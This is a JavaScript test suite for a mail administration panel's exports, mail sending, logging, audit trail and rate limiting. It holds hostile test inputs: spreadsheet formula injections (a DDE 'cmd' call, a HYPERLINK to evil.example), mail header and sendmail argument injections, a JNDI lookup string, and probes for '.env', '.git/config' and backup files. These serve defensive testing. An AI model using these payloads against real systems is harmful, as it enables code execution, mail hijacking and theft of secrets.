// SPDX-License-Identifier: GPL-3.0-or-later
// What leaves the panel beside its pages: files, mails, the log, the trail; and a trail that cannot be written.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { engine } from '../lib/engine.mjs';
import { sleep, startPanel } from '../lib/panel.mjs';
import { check, form, get, json, look, raw, run, same, secret, stage } from './lib/cases.mjs';

const w = stage({ settings: { log_level: 'debug', 'resources.mail.transport.host': '127.0.0.1', 'resources.mail.transport.port': 9, 'identity.mailer.email': 'panel@example.org' } });

// Cells as a spreadsheet would take them for something else: what must stand in front is a quote, and the rest is what it was.
const cells = ['=1+1', "=cmd|' /C calc'!A0", '+1', '-1', '@SUM(1)', '=HYPERLINK("http://evil.example")', '|x', '%0A=1', "'=1", '＝1+1', '"=1"', ',=1', ';=1', ' =1'];

test('M1 cells that a spreadsheet would compute are text, and nobody\'s cell becomes two', async () => {
	for (const text of cells) {
		assert.equal((await w.panel.api('POST', `/mailboxes/${w.ids.own.mailboxes}/edit`, { name: text })).status, 200, text);
		const kept = text.trim();
		const csv = (await w.panel.get('/mailboxes/export.csv?q=box%40own')).text;
		const line = csv.split('\r\n')[1];
		const fields = [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((m) => m[1].replaceAll('""', '"'));
		const names = [...csv.split('\r\n')[0].matchAll(/"([^"]*)"/g)].map((m) => m[1]);
		assert.equal(fields.length, names.length, text);
		const cell = fields[names.indexOf('name')];
		assert.equal(cell.replace(/^'(?=[=+\-@\t\r|%＝'])/, ''), kept, text);
		assert.ok(!/^[=+\-@\t\r]/.test(cell), `${text}: ${cell}`);
		assert.equal(line.replaceAll(/"(?:[^"]|"")*"/g, '').replaceAll(',', ''), '', `${text}: a cell without quotes`);
	}
	w.seen = look(w);
});

const inject = ['x@y.example\r\nBcc: z@evil.example', 'x@y.example\nSubject: x', 'x@y.example%0aBcc:z', 'x@y.example\u0000', '"x\r\n"@y.example', 'x@y.example\u2028', 'x@y.example\u0085Bcc: z', `x@${'y'.repeat(2000)}.example`, '-oQ/tmp@y.example', 'x@y.example -X/tmp/log', '<x@y.example> NOTIFY=NEVER', 'x@y.example\r\n.\r\nMAIL FROM:<>'];
run(w, [
	...inject.flatMap((to) => [
		['M3', `a mail to ${JSON.stringify(to.slice(0, 40))}`, form('/mailboxes/{own.mailboxes}/settings-mail', { type: 'other', email: to }), { status: [400, 422], db: ["SELECT count(*) FROM vimb_job WHERE kind = 'mail' AND args LIKE '%evil%'", 0] }],
		['M3', `another address of a mailbox, ${JSON.stringify(to.slice(0, 40))}`, json('/mailboxes/{own.mailboxes}/edit', { alt_email: to }), [400, 422]],
	]),
	['M3', 'a name of a mailbox with a header in it', json('/mailboxes/{own.mailboxes}/edit', { name: 'x\r\nBcc: z@evil.example' }), 422],
	// keys in addresses stay in histories and logs
	...['token', 'access_token', 'api_key', 'key', 'csrf', 'session', 'password', 'auth'].map((name) => ['M10', `${name} in the query`, get(`/api/domains?${name}=m4rk`), { status: 400, not: /m4rk/ }]),
	['M10', 'a name and password in the address of the JSON door', raw('GET', '/api/domains', undefined, { authorization: `Basic ${Buffer.from('root@example.org:correct horse battery').toString('base64')}` }, { who: 'nobody' }), 401],
	['M10', 'a token that nobody has', raw('GET', '/api/domains', undefined, { authorization: 'Bearer vimb_0123456789abcdef' }, { who: 'nobody' }), { status: 401, row: { action: 'TOKEN_REFUSED', source: '127.0.0.1' }, not: /0123456789abcdef/ }],
	['M14', 'whether it is alive says no more than that', get('/health', { who: 'nobody' }), { status: 200, text: /^ok\n$/, headers: { server: null, 'x-powered-by': null, 'set-cookie': null } }],
	...['/metrics', '/status', '/server-status', '/debug', '/debug/pprof', '/.env', '/.git/config', '/vimbadmin.conf', '/phpinfo.php', '/actuator', '/api/health', '/info', '/version', '/backup.sql', '/application.ini', '/.well-known/security.txt', '/sitemap.xml', '/wp-login.php', '/cgi-bin/x'].map((target) => ['M14', `${target} is nothing`, get(target, { who: 'nobody' }), { status: 404, not: /sqlite|mysql|postgres|vimbadmin \d/i }]),
]);

test('M5 whatever comes in, the log has whole lines of harmless characters', async () => {
	const { panel } = w;
	const c = panel.client();
	await c.get('/auth/login');
	const odd = ['a\tb', 'x" level=error y="', 'x=y z=w', '\u001b[2J', '\u202e', '\u0085', '\u2028', '${jndi:ldap://evil}', '%n%s', 'é', '\\', "'", '\u007f', '\u009b31m'];
	for (const text of odd) {
		for (const fields of [{ username: `m4rk${text}`, password: 'x' }, { username: `m4rk${text}@example.org`, password: 'x' }]) await c.post('/auth/login', fields);
		await c.get(`/auth/reset-password/username/m4rk${encodeURIComponent(text)}/token/x`);
		await panel.api('POST', '/limits/clear', { name: `m4rk${text}` });
		await c.post('/auth/login', { csrf: 'x' }, { 'x-forwarded-for': Buffer.from(`m4rk${text}`).filter((b) => b >= 0x20 && b !== 0x7f).toString('latin1') });
	}
	await c.get(`/auth/reset-password/username/m4rk${'x'.repeat(7000)}/token/x`);
	for (const line of panel.log().split('\n').slice(0, -1)) {
		assert.match(line, /^(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z (error|warn|info|debug) (master|web|keeper) [a-z_.]+( [a-z_]+=("(?:[^"\\]|\\.)*"|[^\s"=]*))*|First run: .*)$/, JSON.stringify(line.slice(0, 300)));
		assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/, JSON.stringify(line.slice(0, 300)));
		assert.ok(line.length < 70000);
	}
	assert.match(panel.log(), /m4rk/);
	w.seen = look(w);
});

test('M5 the trail has no line breaks and no signs that turn text round either', async () => {
	const rows = JSON.parse(w.panel.cli(['log', 'list', '--limit', '500', '--json']));
	assert.ok(rows.length > 20);
	const text = w.panel.cli(['log', 'list', '--limit', '500']);
	assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
});

test('M8 what the trail cannot tell of is not done', async () => {
	const { panel, ids } = w;
	for (const table of ['vimb_audit', 'log']) {
		panel.sql(`ALTER TABLE ${table} RENAME TO gone_for_now`);
		try {
			for (const [target, fields] of [[`/mailboxes/${ids.own.mailboxes}/delete`, {}], [`/mailboxes/${ids.own.mailboxes}/edit`, { name: 'untold' }], [`/mailboxes/${ids.own.mailboxes}/password`, { password: 'another secret 2' }], [`/aliases/${ids.own.aliases}/delete`, {}],
				[`/domains/${ids.own.domains}/delete`, { confirm: 'own.example' }], ['/domains/add', { domain: 'untold.example' }], [`/admins/${ids.own.admins}/delete`, {}], ['/mailboxes/bulk', { verb: 'delete', ids: String(ids.own.mailboxes), confirm: true }]]) {
				const r = await panel.api('POST', target, fields);
				assert.ok(r.status >= 500, `${table}, ${target}: ${r.status} ${r.text}`);
				assert.doesNotMatch(r.text, /vimb_audit|SELECT|INSERT|no such table|doesn't exist/i);
			}
			assert.throws(() => panel.cli(['mailbox', 'delete', 'box@own.example']));
		} finally {
			panel.sql(`ALTER TABLE gone_for_now RENAME TO ${table}`);
		}
		same(w);
	}
	await check(w, json('/mailboxes/{own.mailboxes}/edit', { name: 'told again' }), { status: 200, changes: true });
	assert.match(panel.log(), /web\.fault id=[0-9a-f]{16}/, 'each has its number in the log');
});

test('M11 tries that were counted outlive the process that counted them', async () => {
	const panel = await startPanel({ settings: { 'bruteforce.max_attempts': 2 } });
	try {
		const guess = async () => {
			const c = panel.client();
			await c.get('/auth/login');
			return (await c.post('/auth/login', { username: 'nobody@example.org', password: 'wrong' })).status;
		};
		assert.deepEqual([await guess(), await guess(), await guess()], [401, 401, 429]);
		panel.child.kill('SIGHUP'); // the same as a restart for what a process remembers
		for (let i = 0; i < 1000 && !/reload\.done/.test(panel.log()); i++) await sleep(10);
		assert.match(panel.log(), /reload\.done/);
		panel.agent.destroy();
		assert.equal(await guess(), 429, engine);
	} finally {
		await panel.stop();
	}
});

test('M4 a welcome mail is made of settings, not of a password', async () => {
	const r = await w.panel.api('POST', '/mailboxes/add', { address: 'welcome@own.example', password: 'c4n4ry-welcome', welcome_email: true });
	assert.equal(r.status, 201, r.text);
	assert.doesNotMatch(w.panel.dump() + w.panel.log(), /c4n4ry-welcome/);
	w.seen = look(w);
	assert.equal((await w.panel.get('/mailboxes')).status, 200, secret);
});
